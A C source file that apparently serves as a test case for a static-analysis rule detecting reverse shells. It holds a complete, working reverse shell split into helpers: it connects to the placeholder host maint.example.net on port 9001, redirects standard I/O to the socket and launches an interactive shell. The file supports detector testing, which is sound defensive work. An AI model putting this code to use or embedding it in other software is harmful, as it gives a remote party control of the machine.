/*
 * behavior.reverse-shell: the reverse shell split into small helpers the
 * way generated "remote maintenance agent" code often is: one function
 * resolves the host and connects, one redirects standard I/O onto the
 * descriptor it is given, one starts the shell. main only wires them up.
 */
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int connect_to(const char *host, const char *port)
{
    struct addrinfo hints, *res, *rp;
    int fd = -1;

    memset(&hints, 0, sizeof(hints));
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    for (rp = res; rp; rp = rp->ai_next) {
        fd = socket(rp->ai_family, rp->ai_socktype, rp->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, rp->ai_addr, rp->ai_addrlen) == 0)
            break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

static void redirect_stdio(int fd)
{
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
}

static void run_shell(void)
{
    execlp("sh", "sh", "-i", (char *)NULL); // $ Alert[behavior.reverse-shell]
    perror("execlp");
}

int main(void)
{
    int fd = connect_to("maint.example.net", "9001");

    if (fd < 0)
        return 1;
    redirect_stdio(fd);
    run_shell();
    return 1;
}
